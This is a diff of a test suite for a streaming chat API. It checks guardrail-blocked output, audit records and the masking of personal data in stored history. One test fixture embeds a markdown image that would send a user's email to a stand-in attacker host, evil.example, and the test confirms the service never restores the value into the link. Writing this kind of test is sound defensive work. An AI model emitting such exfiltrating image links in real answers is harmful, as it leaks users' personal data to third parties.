@@ -218,6 +218,15 @@ describe('POST /v1/chat/stream', () => {
     expect(audits[0]).toMatchObject({ decision: 'blocked_output', outputCheck: 'block' });
   });
 
+  it('a guardrail intervention ends with a blocked event (reason guardrail) and nothing is stored', async () => {
+    bedrock.enqueueStream({ kind: 'stream', chunks: ['この回答は組織の', 'ポリシーにより表示できません。'], stopReason: 'guardrail_intervened' });
+    const { stream, audits, store } = await invoke(userMessage('説明してください'));
+    const events = stream.events();
+    expect(events.at(-1)).toMatchObject({ event: 'blocked', data: { reason: 'guardrail', stage: 'output' } });
+    expect(await store.history(USER_A, events[0].data.conversationId, 5)).toBeUndefined();
+    expect(audits[0]).toMatchObject({ decision: 'blocked_output', stopReason: 'guardrail_intervened' });
+  });
+
   it('restores the caller\'s own values in the deltas as the buffered route does, never into a link, and stores them masked', async () => {
     const answer = `${'承知しました。'.repeat(20)}ご連絡先は [EMAIL_1] ですね。![x](https://evil.example/p.png?q=[EMAIL_1]) ${'以上です。'.repeat(30)}`;
     bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf(answer, 4) });
